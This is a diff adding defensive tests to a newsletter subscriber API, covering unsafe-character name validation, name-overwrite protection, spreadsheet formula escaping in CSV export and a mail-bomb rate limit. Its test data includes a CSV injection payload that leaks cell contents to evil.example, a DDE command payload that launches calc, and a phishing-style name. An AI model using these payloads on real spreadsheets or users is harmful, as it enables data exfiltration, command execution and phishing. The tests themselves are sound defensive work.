@@ -3,6 +3,7 @@ import { describe, it } from 'vitest'
 import {
   BASE_URL,
   api,
+  apiWithEnv,
   expectProblem,
   outboxMessagesTo,
   registerAdmin,
@@ -19,6 +20,39 @@ const UNSUBSCRIBE_PATH = 'unsubscribe'
 const ISO_UTC = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/
 const SUBSCRIBER_KEYS = ['confirmed_at', 'created_at', 'email', 'id', 'name', 'status']
 const CSV_HEADER = ['id', 'email', 'name', 'status', 'created_at', 'confirmed_at']
+const UNSAFE_NAME_MESSAGE = 'must be a single line of text without control characters or invisible formatting characters'
+/** Characters a subscriber name may not contain (docs/API.md § Subscribers), put inside a name. */
+const UNSAFE_NAME_CHARACTERS = [
+  ['a LF', '\n'],
+  ['a CR', '\r'],
+  ['a CRLF', '\r\n'],
+  ['a tab', '\t'],
+  ['a vertical tab', '\v'],
+  ['a form feed', '\f'],
+  ['NUL', '\u0000'],
+  ['ESC (terminal escapes)', '\u001B[31m'],
+  ['DEL', '\u007F'],
+  ['a C1 control (NEL)', '\u0085'],
+  ['a line separator', '\u2028'],
+  ['a paragraph separator', '\u2029'],
+  ['a left-to-right embedding', '\u202A'],
+  ['a right-to-left embedding', '\u202B'],
+  ['a pop directional formatting', '\u202C'],
+  ['a left-to-right override', '\u202D'],
+  ['a right-to-left override', '\u202E'],
+  ['a left-to-right isolate', '\u2066'],
+  ['a right-to-left isolate', '\u2067'],
+  ['a first-strong isolate', '\u2068'],
+  ['a pop directional isolate', '\u2069'],
+  ['a left-to-right mark', '\u200E'],
+  ['a right-to-left mark', '\u200F'],
+  ['an Arabic letter mark', '\u061C'],
+  ['a zero-width space', '\u200B'],
+  ['a byte order mark', '\uFEFF'],
+  ['a soft hyphen', '\u00AD'],
+  ['a tag character', '\u{E0041}'],
+  ['a lone surrogate', '\uD800'],
+] as const
 
 type SubscriberStatus = 'pending' | 'active' | 'unsubscribed'
 
@@ -105,6 +139,15 @@ async function expireConfirmationTokens(email: string, expiresAt: Date): Promise
     "UPDATE one_time_tokens SET expires_at = ?1 WHERE purpose = 'subscription_confirmation' AND lower(email) = lower(?2)",
   )
     .bind(expiresAt.getTime(), email)
+    .run()
+}
+
+/** Inserts a pending subscriber directly in D1: a row the API's rules might refuse today. */
+async function insertSubscriber(email: string, name: string | null): Promise<void> {
+  await env.DB.prepare(
+    "INSERT INTO subscribers (email, name, status, created_at, updated_at, unsubscribe_token_hash) VALUES (?1, ?2, 'pending', ?3, ?3, ?4)",
+  )
+    .bind(email, name, Date.now(), crypto.randomUUID())
     .run()
 }
 
@@ -306,6 +349,90 @@ describe('POST /api/v1/subscribers', () => {
     const longName = await expectProblem(await subscribe(uniqueEmail(), 'x'.repeat(201)), 400, 'validation_failed')
     expect(longName.errors?.map((e) => e.path)).toContain('name')
   })
+
+  it.for(UNSAFE_NAME_CHARACTERS)('answers 400 validation_failed naming "name" to a name with %s, echoing nothing', async ([, character], { expect }) => {
+    const email = uniqueEmail('unsafe')
+    const res = await subscribe(email, `Ada${character}Lovelace`)
+    const text = await res.clone().text()
+    const problem = await expectProblem(res, 400, 'validation_failed')
+    expect(problem.errors).toEqual([{ path: 'name', message: UNSAFE_NAME_MESSAGE }])
+    expect(text).not.toContain('Lovelace')
+    expect(await outboxMessagesTo(email)).toEqual([])
+    const { results } = await env.DB.prepare('SELECT id FROM subscribers WHERE lower(email) = lower(?)').bind(email).all()
+    expect(results).toEqual([])
+  })
+
+  it('refuses a name posing as a paragraph of the email', async ({ expect }) => {
+    const email = uniqueEmail('phish')
+    const res = await subscribe(email, 'friend,\r\n\r\nYour account is locked. Unlock it at http://evil.example\r\n\r\nThanks')
+    expect((await expectProblem(res, 400, 'validation_failed')).errors?.map((e) => e.path)).toEqual(['name'])
+    expect(await outboxMessagesTo(email)).toEqual([])
+  })
+
+  it.for([
+    ['an emoji ZWJ sequence', 'Ada 👩‍💻', 'Ada 👩‍💻'],
+    ['a ZWNJ (Persian)', 'نیک\u200Cنام', 'نیک\u200Cنام'],
+    ['right-to-left text without controls', 'مرحبا Ada', 'مرحبا Ada'],
+    ['surrounding whitespace and line breaks (trimmed)', '\r\n\t Ada Lovelace \n', 'Ada Lovelace'],
+  ] as const)('accepts a name with %s', async ([, name, stored], { expect }) => {
+    const token = await adminToken()
+    const email = uniqueEmail('safe')
+    await subscribeOk(email, name)
+    expect((await findSubscriber(token, email)).name).toBe(stored)
+    expect((await outboxMessagesTo(email))[0]!.text).toContain(`Hello ${stored},\n`)
+  })
+
+  it.for(['pending', 'unsubscribed'] as const)(
+    'keeps the stored name of a %s address whoever re-subscribes it, and greets with the stored name',
+    async (state, { expect }) => {
+      const token = await adminToken()
+      const email = uniqueEmail(state)
+      if (state === 'pending') await subscribeOk(email, 'Ada')
+      else await subscribeUnsubscribed(email, 'Ada')
+
+      await subscribeOk(email, 'Mallory: your account is locked, call +1 555 0100')
+      expect(await findSubscriber(token, email)).toMatchObject({ name: 'Ada', status: 'pending' })
+      const messages = await outboxMessagesTo(email)
+      expect(messages).toHaveLength(2)
+      expect(messages[1]!.text).toContain('Hello Ada,\n')
+      expect(messages[1]!.text).not.toContain('Mallory')
+    },
+  )
+
+  it('sets no name on an existing address that has none: naming it is a stranger overwrite too', async ({ expect }) => {
+    const token = await adminToken()
+    const email = uniqueEmail('nameless')
+    await subscribeOk(email)
+    await subscribeOk(email, 'Mallory')
+    expect((await findSubscriber(token, email)).name).toBeNull()
+    const messages = await outboxMessagesTo(email)
+    expect(messages).toHaveLength(2)
+    expect(messages[1]!.text).toMatch(/^Hello,\n/)
+    expect(messages[1]!.text).not.toContain('Mallory')
+  })
+
+  it.for(['pending', 'unsubscribed'] as const)(
+    're-subscribing a %s address refreshes its unsubscribe token hash: the new link works after JWT_SECRET is rotated',
+    async (state, { expect }) => {
+      const token = await adminToken()
+      const email = uniqueEmail(`rotate-${state}`)
+      if (state === 'pending') await subscribeOk(email)
+      else await subscribeUnsubscribed(email)
+      const oldToken = await tokenFromEmail(email, UNSUBSCRIBE_PATH)
+
+      // Built once: config and keys are memoised per env object.
+      const rotated = { ...env, JWT_SECRET: `${env.JWT_SECRET}-rotated` }
+      expect((await apiWithEnv(rotated, 'POST', '/subscribers', { email })).status).toBe(202)
+      const newToken = await tokenFromEmail(email, UNSUBSCRIBE_PATH)
+      expect(newToken).not.toBe(oldToken)
+      expect((await findSubscriber(token, email)).status).toBe('pending')
+
+      const res = await apiWithEnv(rotated, 'POST', '/subscribers/unsubscribe', { token: newToken })
+      expect(res.status).toBe(200)
+      expect(await res.json()).toEqual({ status: 'unsubscribed' })
+      expect((await findSubscriber(token, email)).status).toBe('unsubscribed')
+    },
+  )
 
   it('answers 415 unsupported_media_type to a form body (subscribe is not an auth endpoint)', async ({ expect }) => {
     const email = uniqueEmail()
@@ -727,6 +854,21 @@ describe('GET, PATCH, DELETE /api/v1/subscribers/{id}', () => {
     expect((await findSubscriber(token, email)).status).toBe('pending')
   })
 
+  it('PATCH answers 400 naming "name" to every unsafe character, echoing nothing, and keeps the stored name', async ({ expect }) => {
+    const token = await adminToken()
+    const email = uniqueEmail()
+    await subscribeOk(email, 'Ada')
+    const { id } = await findSubscriber(token, email)
+    for (const [label, character] of UNSAFE_NAME_CHARACTERS) {
+      const res = await api('PATCH', `/subscribers/${id}`, { name: `Ada${character}Lovelace` }, token)
+      const text = await res.clone().text()
+      const problem = await expectProblem(res, 400, 'validation_failed')
+      expect(problem.errors, label).toEqual([{ path: 'name', message: UNSAFE_NAME_MESSAGE }])
+      expect(text, label).not.toContain('Lovelace')
+    }
+    expect((await findSubscriber(token, email)).name).toBe('Ada')
+  })
+
   it('DELETE answers 204, then GET answers 404 and the confirmation token is dead', async ({ expect }) => {
     const token = await adminToken()
     const email = uniqueEmail()
@@ -795,7 +937,8 @@ describe('GET /api/v1/subscribers/export', () => {
       '""quoted""',
     ]
     const emails = names.map(() => uniqueEmail('csv'))
-    for (const [i, name] of names.entries()) await subscribeOk(emails[i]!, name)
+    // The API refuses a name with a line break; rows stored before that rule may still hold one.
+    for (const [i, name] of names.entries()) await insertSubscriber(emails[i]!, name)
 
     const res = await api('GET', '/subscribers/export', undefined, token)
     const text = await res.text()
@@ -803,6 +946,33 @@ describe('GET /api/v1/subscribers/export', () => {
     expect(text).toContain('"The ""Boss"""')
     const byEmail = new Map(parseCsv(text).slice(1).map((record) => [record[1], record]))
     for (const [i, name] of names.entries()) expect(byEmail.get(emails[i]!)?.[2]).toBe(name)
+  })
+
+  it('prefixes a text field a spreadsheet would run as a formula with a single quote (OWASP)', async ({ expect }) => {
+    const token = await adminToken()
+    const posted = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)']
+    // A tab or CR can no longer be posted in a name; a row stored before that rule may hold one.
+    const stored = ['\t=1+1', '\r=1+1']
+    const names = [...posted, ...stored]
+    const emails = names.map(() => uniqueEmail('formula'))
+    for (const [i, name] of names.entries()) {
+      if (i < posted.length) await subscribeOk(emails[i]!, name)
+      else await insertSubscriber(emails[i]!, name)
+    }
+    // An address may start with "-" or "+" too.
+    const dashEmail = `-${uniqueEmail('dash')}`
+    await subscribeOk(dashEmail, 'Dash')
+
+    const res = await api('GET', '/subscribers/export', undefined, token)
+    const text = await res.text()
+    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`)
+    expect(text).toContain(`,"'\r=1+1",`)
+    const records = parseCsv(text)
+    const byEmail = new Map(records.slice(1).map((record) => [record[1], record]))
+    for (const [i, name] of names.entries()) expect(byEmail.get(emails[i]!)?.[2]).toBe(`'${name}`)
+    expect(byEmail.get(`'${dashEmail}`)?.[2]).toBe('Dash')
+    // Whatever else this file stored: no field starts a formula.
+    for (const record of records) for (const field of record) expect(field).not.toMatch(/^[=+\-@\t\r\n\0]/)
   })
 
   it('exports every subscriber exactly once across 500-row chunks (1 200 inserted directly)', async ({ expect }) => {
@@ -848,5 +1018,17 @@ describe('names with SQL metacharacters and unicode', () => {
     // The table survived.
     const { results } = await env.DB.prepare('SELECT count(*) AS n FROM subscribers').all<{ n: number }>()
     expect(results[0]!.n).toBeGreaterThan(0)
+  })
+})
+
+describe('POST /api/v1/subscribers cannot be used to mail-bomb an address', () => {
+  it('sends at most 3 confirmation emails an hour to one address, and always answers the same 202', async ({ expect }) => {
+    const email = `${uniqueName('bombed')}@example.com`
+    for (let i = 0; i < 5; i += 1) {
+      const res = await api('POST', '/subscribers', { email: i % 2 === 0 ? email : email.toUpperCase() })
+      expect(res.status).toBe(202)
+      expect(await res.json()).toEqual({ status: 'pending' })
+    }
+    expect(await outboxMessagesTo(email)).toHaveLength(3)
   })
 })
